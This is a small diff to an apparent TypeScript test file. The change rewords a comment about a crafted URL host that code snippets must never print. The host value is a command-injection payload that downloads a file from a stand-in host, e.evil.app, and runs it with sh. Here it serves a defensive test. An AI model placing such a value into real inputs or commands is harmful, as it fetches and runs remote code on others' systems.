@@ -34,7 +34,7 @@ const SAMPLE: ExplainInput = {
   conventionName: 'PostgreSQL',
 };
 
-/** A host the URL parser keeps but no snippet may print (security-review row 3): kinds show a placeholder. */
+/** A host the URL parser keeps but no snippet may print (a shell would run it): kinds show a placeholder. */
 const CRAFTED = { ...SAMPLE, host: 'a;{curl,-o,x,e.evil.app};{sh,x};b.evil.app' };
 
 /** A Text and the Texts among its arguments (placeholders), each checked like any other. */
